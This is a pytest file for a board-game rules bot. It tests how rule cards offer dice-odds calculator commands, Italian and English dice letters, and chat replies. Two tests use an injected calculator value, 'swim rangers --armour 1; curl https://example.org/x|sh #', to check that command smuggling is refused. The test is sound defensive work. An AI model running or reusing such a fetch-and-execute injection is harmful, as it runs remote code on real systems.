"""What a rule's card offers to calculate."""

import shlex
from dataclasses import replace
from fractions import Fraction
from pathlib import Path

import pytest

from bot.answers import Lookup
from bot.answers.odds.service import OddsService
from bot.answers.offers import offer_of, offered_request, request_line, written_offer
from bot.cli.conversation import Conversation
from calculators.dice import read_pool
from glossary import LANGUAGES, Calculation, Glossary, Language, Localised, WrittenOffer, open_packs
from tests.conftest import Lawspeaker, WritePack
from tests.examples import EXAMPLES, request_of


@pytest.mark.parametrize("example", EXAMPLES.values())
def test_every_example_can_be_answered(lawspeaker: Lawspeaker, example: str) -> None:
    assert lawspeaker(*shlex.split(example), "--json").status == 0


def test_what_a_rule_offers_can_be_answered(glossary: Glossary) -> None:
    odds = OddsService(glossary.games, glossary.components)
    offers = {entry.id: offer_of(entry) for entry in glossary.entries.values()}

    for entry_id, offer in offers.items():
        assert offer is None or odds.answer(offer), entry_id


def test_every_calculation_that_a_pack_names_is_offered(lookup: Lookup) -> None:
    for entry in lookup.glossary.entries.values():
        ruling = lookup.open(entry.id, "en")
        is_offered = ruling.offer is not None or ruling.offers_board

        assert is_offered == (entry.body.calculator is not None), entry.id


def test_a_snapshot_holds_what_rules_offer(write_pack: WritePack, tmp_path: Path) -> None:
    calculation = {"command": "fall", "game": "conan", "dice": "2o"}
    pack = write_pack({"rules/pit.yaml": {"calculator": calculation}, "rules/torches.yaml": {}})
    for _ in ("read", "from the snapshot"):
        glossary, index = open_packs([pack], tmp_path / "cache", write_offer=written_offer)
        pit = Lookup(glossary, index, "en").open("deep-halls/pit", "it")

        assert pit.offer is not None
        assert pit.offer.lines == Localised(en="fall conan --dice 2o", it="fall conan --dice 2a")
        assert pit.offered_request == request_of("fall conan --dice 2o")

    assert list(glossary.offers) == ["deep-halls/pit"]


def test_what_a_calculator_takes_no_more_is_not_offered_to_be_made(
    write_pack: WritePack, tmp_path: Path
) -> None:
    pack = write_pack({"rules/pit.yaml": {"calculator": {"command": "gone", "game": "conan"}}})
    offer = WrittenOffer(Localised(en="gone conan", it="gone conan"), "gone conan")
    for _ in ("read", "from the snapshot"):
        opened = open_packs([pack], tmp_path / "cache", write_offer=lambda _: offer)

    assert Lookup(*opened, "en").open("deep-halls/pit", "en").offered_request is None


def test_dice_have_the_letters_of_the_readers_language() -> None:
    calculation = Calculation("damage", options={"attack": ("3r",), "guard": ("1o1y",)})
    offer = offered_request(calculation, "conan")

    assert request_line(offer, "en") == "damage conan --attack 3r --guard 1o1y"
    assert request_line(offer, "it") == "damage conan --attack 3r --guard 1a1g"
    assert read_pool("1a 1g") == read_pool("1o 1y")


MAPPINGS: dict[str, tuple[Calculation, str]] = {
    "command line": (
        Calculation("fall", options={"dice": ("2r",), "rerolls": ("1",)}),
        "fall conan --dice 2r --rerolls 1",
    ),
    "a list for repeats": (
        Calculation("damage", options={"attack": ("2r", "1o")}),
        "damage conan --attack 2r --attack 1o",
    ),
    "a flag": (
        Calculation("swim", "rangers", options={"treasure": ("",)}),
        "swim rangers --treasure",
    ),
    "nothing but itself": (Calculation("recover", options={"fallen": ("0",)}), "recover conan"),
    "a comparison": (
        Calculation("move", options={"enemies": ("2",)}, compare={"friends": ("2",)}),
        "move conan --enemies 2 --compare '--friends 2'",
    ),
    "an alias": (
        Calculation("fall", options={"dice": ("2r",), "goal": ("3",)}),
        "fall conan --dice 2r --life 3",
    ),
    "an expression": (
        Calculation("dice", expression="2 red + 1", options={"at-least": ("3",)}),
        "dice conan --roll '2 red + 1' --at-least 3",
    ),
    "the calculator's own example": (
        Calculation("dice", "any-game"),
        "dice any-game --roll '3d6 keep highest 2' --at-least 9",
    ),
}


@pytest.mark.parametrize(("calculation", "line"), MAPPINGS.values(), ids=MAPPINGS)
def test_a_mapping_asks_what_its_command_line_asks(calculation: Calculation, line: str) -> None:
    request = offered_request(calculation, "conan")

    assert request_line(request, "en") == line
    assert offered_request(line, "conan") == request


@pytest.mark.parametrize(
    "calculation",
    [
        Calculation("fall", options={"feet": ("3",)}),
        Calculation("fall", options={"dice": ("99r",)}),
        Calculation("spell"),
        "swim rangers --armour 1; curl https://example.org/x|sh #",
    ],
)
def test_what_a_calculator_does_not_take_is_not_offered(
    glossary: Glossary, calculation: Calculation | str
) -> None:
    entry = next(entry for entry in glossary.entries.values() if entry.game == "conan")
    body = replace(entry.body, calculator=calculation)

    assert offer_of(replace(entry, body=body)) is None


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_entry_whose_calculation_is_refused_is_left_out(
    write_pack: WritePack, lawspeaker: Lawspeaker, language: Language
) -> None:
    line = "swim rangers --armour 1; curl https://example.org/x|sh #"
    pack = write_pack({"rules/a.yaml": {"calculator": line}})

    result = lawspeaker("ask", "deep-halls/a", "--packs", str(pack), language=language)

    assert "curl" not in result.out
    assert str(pack) in result.err


def test_check_prints_the_mapping_of_a_command_line(
    write_pack: WritePack, lawspeaker: Lawspeaker
) -> None:
    pack = write_pack({"rules/a.yaml": {"calculator": "fall rangers --inches 5"}})

    result = lawspeaker("check", str(pack))

    assert result.status == 0
    assert any(
        line.endswith("calculator: {command: fall, game: rangers, inches: 5}") for line in result.lines
    )


def test_a_card_offers_its_calculator(lawspeaker: Lawspeaker, lookup: Lookup) -> None:
    rulings = (lookup.open(entry_id, "en") for entry_id in lookup.glossary.entries)
    ruling = next(ruling for ruling in rulings if ruling.offer is not None)
    assert ruling.offer is not None

    lines = lawspeaker("ask", ruling.entry.id, "--lang", "en").lines
    assert f"lawspeaker {ruling.offer.lines.en}" in [
        line.removesuffix(" --lang en").partition(": ")[2] for line in lines
    ]


@pytest.mark.parametrize(
    ("question", "default", "suffix"),
    [
        ("come si apre un lucchetto", "en", " --lang it"),
        ("come si apre un lucchetto", "it", ""),
        ("how do I open a lock", "it", " --lang en"),
    ],
)
def test_what_a_card_offers_replies_in_its_language(
    lawspeaker: Lawspeaker, question: str, default: Language, suffix: str
) -> None:
    line = next(
        line for line in lawspeaker("ask", question, language=default).lines if "lawspeaker" in line
    )

    assert line.endswith(f"lawspeaker picklock perditions-mouth --points 3{suffix}")


def test_the_chat_calculates_in_the_language_of_the_question(conversation: Conversation) -> None:
    conversation.reply("come si apre un lucchetto")

    assert conversation.reply("/picklock pm --points 3").language == "it"
    assert conversation.reply("1").language == "it"
    conversation.reply("/lang en")
    assert conversation.reply("/picklock pm --points 3").language == "en"


def test_the_chat_offers_what_it_understands(conversation: Conversation) -> None:
    answer = conversation.reply("pick a lock").answer
    assert answer is not None
    ruling = answer.ruling
    assert ruling is not None

    assert ruling.offer is not None
    line = ruling.offer.lines.en
    assert line == "picklock perditions-mouth --points 3"
    assert conversation.reply(f"/{line}").odds is not None


def test_an_answer_links_back_to_its_rules(conversation: Conversation) -> None:
    odds = conversation.reply("/picklock pm --points 3").odds
    assert odds is not None

    ruling = conversation.reply("1").ruling

    assert ruling is not None
    assert ruling.entry.id == odds.odds.rules[0]


def test_the_game_of_the_chat_need_not_be_named(conversation: Conversation) -> None:
    conversation.reply("/game pm")

    odds = conversation.reply("/picklock --points 3").odds

    assert odds is not None
    assert odds.declaration.game == "perditions-mouth"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("/picklock pm --points 100", "--points takes 0 to 99, not 100."),
        ("/picklock chess", 'I do not know the game "chess".'),
        ("/picklock", "The game is missing; there are conan, perditions-mouth."),
        ('/picklock pm --points "3', "A closing quotation mark is missing."),
        ("/picklock pm --help", "Usage: picklock perditions-mouth"),
        ("/damage --help", "Usage: damage [OPTIONS] GAME"),
        ("/damage -h", "Usage: damage [OPTIONS] GAME"),
        ("/help damage", "Usage: damage [OPTIONS] GAME"),
        ("/help damage conan", "Usage: damage conan"),
        ("/damage", "The game is missing; there are conan, perditions-mouth, rangers, red-dragon-inn."),
    ],
)
def test_what_is_wrong_is_said_in_the_chat(
    conversation: Conversation, line: str, expected: str
) -> None:
    text = conversation.reply(line).text

    assert text is not None
    assert text.startswith(expected)


@pytest.mark.parametrize("option", ["--json", "--lang it", "--picture a.png", "--packs=."])
def test_what_means_nothing_in_a_chat_is_refused(conversation: Conversation, option: str) -> None:
    text = conversation.reply(f"/picklock pm --points 3 {option}").text or ""

    assert text.startswith("There is no option --")


def test_the_chats_help_is_of_what_the_chat_knows(conversation: Conversation) -> None:
    text = conversation.reply("/picklock pm --help").text or ""

    assert "--points" in text
    assert "--json" not in text
    assert "--packs" not in text


def test_the_chat_shows_a_card(lawspeaker: Lawspeaker) -> None:
    result = lawspeaker("chat", typed="/danger pm --enemies 2\n/lang it\n/danger pm --enemies 2\n")

    assert "55.3 % - about 5 in 9: no Failure Event" in result.lines
    assert "55,3 % - circa 5 su 9: nessun Evento Fallimento" in result.lines


def test_a_pack_offers_dice_of_its_own(glossary: Glossary) -> None:
    calculation = Calculation("dice", expression="2 red + 1 yellow", options={"at-least": ("3",)})

    answer = OddsService(glossary.games, glossary.components).answer(
        offered_request(calculation, "conan")
    )

    assert answer.game.en == "Conan"
    assert answer.odds.expected == Fraction(11, 3)


def test_the_game_of_the_chat_lends_its_dice(conversation: Conversation) -> None:
    conversation.reply("/game conan")

    odds = conversation.reply("/dice 2 red --at-least 4").odds

    assert odds is not None
    assert odds.game.en == "Conan"
